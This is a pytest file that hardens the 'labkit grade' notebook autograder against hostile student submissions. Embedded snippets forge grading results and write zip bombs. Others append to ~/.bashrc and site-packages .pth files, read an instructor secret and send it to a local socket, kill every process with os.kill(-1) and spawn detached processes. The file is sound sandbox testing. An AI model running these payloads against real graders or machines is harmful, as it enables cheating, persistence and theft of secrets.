"""`labkit grade` against students who attack the grader's processes and machine (issue 20).

One grading run (module fixture, 2 jobs) of hostile lab-00 notebooks beside an honest
solution; one test per class of attack. Each notebook attacks from where student code runs:
the exercise cell's definitions (the hidden-test worker) or a cell the kernel runs.
"""

from __future__ import annotations

import hashlib
import io
import os
import socket
import sysconfig
import threading
from pathlib import Path

import numpy as np
import pytest
from _grading import DEMO_LAB, FIXTURES, HIDDEN_DIR, REPO, demo_notebooks, edited, rows, write

import labkit
from labkit.checks import Case
from labkit.grade import Options, grade
from labkit.grade.hidden import exercise_tests, load_hidden_tests, set_run_seed
from labkit.grade.sandbox import sandbox_problem
from labkit.grade.wire import read_observations

SANDBOX = not sandbox_problem()
MARKER = "labkit-hostile-detached-marker"

# ---- reaching the reference from inside the exercise cell's definitions
RELOAD = """\
import importlib
import demo_exercises
dice = importlib.reload(demo_exercises).dice
"""
GETSOURCE = """\
import inspect
import demo_exercises
_ns = {}
_ = exec(inspect.getsource(demo_exercises.dice).replace("def dice", "def _mine"), vars(demo_exercises), _ns)
dice = _ns["_mine"]
"""
GC_FIND = """\
import gc
_found = [f for f in gc.get_objects() if getattr(f, "__name__", "") == "dice"
          and getattr(f, "__module__", "") == "demo_exercises" and callable(f)]
if _found:
    dice = _found[0]
else:
    def dice(pred, truth):
        raise NotImplementedError
"""
# ---- lying to the grader about results
FIFO_RESULT = """\
import os
_ = os.mkfifo(os.path.join("..", "02.npz"))  # where this exercise's observations go
_ = os._exit(0)
"""
ZIP_BOMB = """\
import io, os
import numpy as np
_meta = np.frombuffer(b'{"notes": [], "defined": true, "observations": []}', dtype=np.uint8)
_buffer = io.BytesIO()
_ = np.savez_compressed(_buffer, __meta__=_meta, a0=np.zeros(300 * 2**20, np.uint8))
_fds = [int(fd) for fd in os.listdir("/proc/self/fd")]
_written = [os.write(fd, _buffer.getvalue()) if os.path.exists(f"/proc/self/fd/{fd}") else 0 for fd in _fds[3:]]
_ = os._exit(0)
"""
FORGE_STATUS = """\
# Detached: a moment later, say "ok" everywhere and kill the process running the notebook.
import json, os, pathlib, signal, subprocess, sys, time
code = (
    "import json, os, pathlib, signal, time\\n"
    "time.sleep(3)\\n"
    "for p in pathlib.Path('..').rglob('*'):\\n"
    "    if p.suffix == '.json' and p.is_file():\\n"
    "        p.write_text(json.dumps({'status': 'ok', 'cell': -1, 'cells': 9}))\\n"
    "(pathlib.Path('..') / 'run' / 'status.json').write_text(json.dumps({'status': 'ok'}))\\n"
    f"os.kill({os.getppid()}, signal.SIGKILL)\\n"
)
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
"""
# ---- one exercise's process forging another exercise's results: the scale cell (whose copy
# of labkit still holds dice's reference) leaves a process that waits for dice's results
# and rewrites them with the reference's observations; the dice cell itself is a stub.
FORGER = """\
import os, sys, time
forged, target = sys.argv[1], sys.argv[2]
deadline = time.time() + 300
while not os.path.exists(target) and time.time() < deadline:
    time.sleep(0.005)
os.replace(forged, target)
"""
CROSS_FORGE = f"""\
import builtins, demo_exercises, inspect, os, pathlib, subprocess, sys
import numpy as np
from labkit.grade.worker import observe_exercise

def scale(x):
    x = x.astype(np.float32)
    span = float(x.max() - x.min())
    return (x - x.min()) / span if span > 0 else np.zeros_like(x)

_frames = [f.frame.f_locals for f in inspect.stack() if "job" in f.frame.f_locals]
if _frames:
    _job, _item = _frames[0]["job"], _frames[0]["item"]
    _probe = pathlib.Path(_item["out"]).parent
    _here = os.getcwd()
    _ = setattr(builtins, "_real_dice", demo_exercises.dice)  # not blocked in this process
    _source = "dice = _real_dice\\n"
    _ = observe_exercise(
        {{"id": "00.dice", "source": _source, "out": str(_probe / "forged"), "lib": _item["lib"]}},
        _job,
    )
    _ = os.chdir(_here)
    _ = subprocess.Popen(
        [sys.executable, "-c", {FORGER!r}, str(_probe / "forged.npz"), str(_probe / "02.npz")],
        start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
"""
DICE_STUB = "def dice(pred, truth):\n    raise NotImplementedError()\n"

# ---- tampering that would outlive the submission
TAMPER = """\
import pathlib, sysconfig
import demo_exercises, labkit
hits = []
for target in [pathlib.Path(demo_exercises.__file__), pathlib.Path(labkit.__file__),
               pathlib.Path(r"{real_labkit}"), pathlib.Path(r"{real_demo}")]:
    try:
        with open(target, "a") as f:
            f.write("\\nscale = dice = lambda *a, **k: 1.0\\n")
        hits.append(str(target))
    except OSError:
        pass
for target in [pathlib.Path(sysconfig.get_paths()["purelib"]) / "zz_labkit_evil.pth",
               pathlib.Path(r"{cache}") / "zz_poison.pt",
               pathlib.Path(r"{real_home}") / ".bashrc"]:
    try:
        with open(target, "a") as f:
            f.write("import os\\n")
        hits.append(str(target))
    except OSError:
        pass
print(hits)
"""
HOG = """\
import numpy as np
hog = np.ones(12 * 2**30, dtype=np.uint8)  # 12 GiB
"""
DETACHED = f"""\
import subprocess, sys
for _ in range(3):
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)  # {MARKER}"],
                     start_new_session=True)
"""
# ---- reading what it must not, and the network
SNOOP = """\
import pathlib, socket
found = []
for target in [r"{secret}", r"{solutions}", r"{subs}"]:
    p = pathlib.Path(target)
    try:
        found.append(p.read_text() if p.is_file() else str(sorted(x.name for x in p.iterdir())))
    except OSError as err:
        found.append(type(err).__name__)
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen")
    found.append("connected")
except OSError as err:
    found.append("no network: " + type(err).__name__)
raise RuntimeError(" | ".join(found))
"""
KILL_ALL = """\
import os, signal
os.kill(-1, signal.SIGKILL)  # every process this user may signal
"""


def _lookup_scale() -> str:
    """A `scale` that answers from a table of every test input, computed with seed 0 and the
    reference: right on every input it has seen, and on no other."""
    import demo_exercises

    load_hidden_tests("00", [HIDDEN_DIR])
    set_run_seed(0)
    from labkit.checks import get_exercise

    table = {}
    for test in exercise_tests(get_exercise("00.scale")):
        if isinstance(test, Case):
            x = test.args[0]
            table[hashlib.sha256(x.tobytes()).hexdigest()] = demo_exercises.scale(x).tolist()
    return (
        "import hashlib\nimport numpy as np\n"
        f"_TABLE = {table!r}\n"
        "def scale(x):\n"
        "    return np.asarray(_TABLE[hashlib.sha256(x.tobytes()).hexdigest()], np.float32)\n"
    )


@pytest.fixture(scope="module")
def hostile(demo_env, tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    subs, out = base / "submissions", base / "out"
    instructor = base / "instructor-home"
    secret = write(instructor, "secret.txt", "TOKEN-3141592653")
    student, solution = demo_notebooks(base / "build")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.5)
    port = server.getsockname()[1]
    contacts: list[bytes] = []
    stop = threading.Event()

    def listen() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                contacts.append(conn.recv(100))
                conn.close()
            except OSError:
                pass

    listener = threading.Thread(target=listen, daemon=True)
    listener.start()
    real_labkit = Path(labkit.__file__)
    real_demo = FIXTURES / "demo_exercises.py"
    protected = {p: p.read_bytes() for p in (real_labkit, real_demo)}
    purelib = Path(sysconfig.get_paths()["purelib"])
    pth_before = sorted(purelib.glob("*.pth"))
    bashrc = Path.home() / ".bashrc"
    protected[bashrc] = bashrc.read_bytes() if bashrc.exists() else b""
    torch_home = base / "shared-torch-cache"  # the instructor's weight cache, shared read-only
    torch_home.mkdir()
    notebooks = {
        "honest": solution,
        "reload": edited(solution, {"00.dice": RELOAD}),
        "getsource": edited(solution, {"00.dice": GETSOURCE}),
        "gc_find": edited(solution, {"00.dice": GC_FIND}),
        "lookup": edited(solution, {"00.scale": _lookup_scale()}),
        "fifo": edited(solution, {"00.dice": FIFO_RESULT}),
        "cross_forge": edited(solution, {"00.scale": CROSS_FORGE, "00.dice": DICE_STUB}),
        "zip_bomb": edited(solution, {"00.dice": ZIP_BOMB}),
        "forge_status": edited(
            solution, after_setup=FORGE_STATUS, at_end="import time\ntime.sleep(10)\n1 / 0\n"
        ),
        # Outside the sandbox only its own copies: the real files would really change.
        "tamper": edited(
            solution,
            at_end=TAMPER.format(
                real_labkit=real_labkit if SANDBOX else "",
                real_demo=real_demo if SANDBOX else "",
                real_home=Path.home() if SANDBOX else "",
                cache=torch_home if SANDBOX else "",
            ),
        ),
        "snoop": edited(
            solution,
            at_end=SNOOP.format(secret=secret, solutions=REPO / "solutions", subs=subs, port=port),
        ),
    }
    if SANDBOX:  # outside the sandbox these would kill the test run or outlive it
        notebooks["kill_all"] = edited(solution, after_setup=KILL_ALL)
        notebooks["detached"] = edited(solution, at_end=DETACHED)
    notebooks["hog"] = edited(solution, at_end=HOG)
    for name, nb in notebooks.items():
        write(subs, f"{name}.ipynb", nb)
    options = Options(
        source=DEMO_LAB.parent,
        hidden_dirs=(HIDDEN_DIR,),
        jobs=2,
        timeout=120,
        exercise_timeout=30,
        progress=False,
    )
    try:
        with pytest.MonkeyPatch.context() as mp:
            mp.setenv("TORCH_HOME", str(torch_home))
            results = grade(subs, "00", out, options)
    finally:
        stop.set()
        listener.join(timeout=5)
        server.close()
    left = [
        pid for pid in os.listdir("/proc") if pid.isdigit() and MARKER.encode() in _cmdline(pid)
    ]
    return {
        "results": {r.student: r for r in results},
        "rows": rows(out),
        "out": out,
        "protected": protected,
        "pth": (pth_before, sorted(purelib.glob("*.pth"))),
        "poisoned": (torch_home / "zz_poison.pt").exists(),
        "contacts": contacts,
        "left": left,
    }


def _cmdline(pid: str) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


def _exercise(hostile, student, exercise_id):
    return next(e for e in hostile["results"][student].exercises if e.id == exercise_id)


def test_the_real_sandbox_is_used_where_bubblewrap_works(hostile):
    assert {r.sandbox for r in hostile["results"].values()} == {"bwrap" if SANDBOX else "none"}
    assert {r["sandbox"] for r in hostile["rows"].values()} == {"bwrap" if SANDBOX else "none"}
    assert hostile["rows"]["honest"]["score"] == "4"


@pytest.mark.parametrize("student", ["reload", "getsource", "gc_find"])
def test_the_reference_is_absent_not_just_blocked(hostile, student):
    dice = _exercise(hostile, student, "00.dice")
    assert dice.status in ("fail", "stub", "missing"), dice
    assert hostile["results"][student].score == 3.0  # scale and count_positive: their own


def test_answers_tabulated_in_advance_fail_on_the_runs_secret_inputs(hostile):
    scale = _exercise(hostile, "lookup", "00.scale")
    assert scale.status == "fail" and "KeyError" in scale.message, scale


def test_a_pipe_or_a_bomb_in_place_of_results_is_refused_without_blocking(hostile):
    for student in ("fifo", "zip_bomb"):
        dice = _exercise(hostile, student, "00.dice")
        assert dice.status == "crashed" and dice.points == 0, dice
        assert hostile["results"][student].score == 3.0


def test_one_exercise_cannot_forge_another_exercises_results(hostile):
    assert _exercise(hostile, "cross_forge", "00.scale").status == "pass"
    dice = _exercise(hostile, "cross_forge", "00.dice")
    assert dice.status in ("stub", "crashed") and dice.points == 0, dice


def test_a_forged_status_cannot_hide_an_error(hostile):
    row = hostile["rows"]["forge_status"]
    assert row["status"] == "error", row
    assert row["score"] == "4"  # its exercises are its own


def test_tampering_with_labkit_and_site_packages_changes_nothing(hostile):
    for path, before in hostile["protected"].items():
        assert (path.read_bytes() if path.exists() else b"") == before, path
    assert hostile["pth"][0] == hostile["pth"][1]
    assert not hostile["poisoned"]  # the shared weight cache is read-only
    if SANDBOX:  # it could not even write its own copy
        assert hostile["rows"]["tamper"]["score"] == "4"


@pytest.mark.skipif(not SANDBOX, reason="needs bubblewrap's PID namespace")
def test_nothing_a_submission_starts_outlives_its_grading(hostile):
    assert hostile["rows"]["detached"]["score"] == "4"
    assert hostile["left"] == []


@pytest.mark.skipif(not SANDBOX, reason="needs bubblewrap: without it files and network are open")
def test_no_view_of_other_files_and_no_network(hostile):
    feedback = (hostile["out"] / "feedback" / "snoop.md").read_text()
    assert "TOKEN-3141592653" not in feedback
    assert "FileNotFoundError | FileNotFoundError | FileNotFoundError" in feedback
    assert "no network" in feedback and hostile["contacts"] == []


@pytest.mark.skipif(not SANDBOX, reason="needs bubblewrap's PID namespace")
def test_killing_every_process_it_can_see_harms_no_one_else(hostile):
    assert hostile["rows"]["kill_all"]["status"] == "error"
    others = {k: v["score"] for k, v in hostile["rows"].items() if k != "kill_all"}
    assert others["honest"] == "4" and len(others) == len(hostile["rows"]) - 1


def test_observations_with_a_huge_decompressed_size_are_refused():
    buffer = io.BytesIO()
    meta = np.frombuffer(b'{"notes": [], "defined": true, "observations": []}', dtype=np.uint8)
    np.savez_compressed(buffer, __meta__=meta, a0=np.zeros(300 * 2**20, np.uint8))
    assert len(buffer.getvalue()) < 2**20
    with pytest.raises(ValueError, match="too large once decompressed"):
        read_observations(buffer.getvalue())


def test_memory_is_limited_per_process(hostile):
    row = hostile["rows"]["hog"]
    assert row["status"] == "error" and "MemoryError" in row["detail"], row
    assert row["score"] == "4"
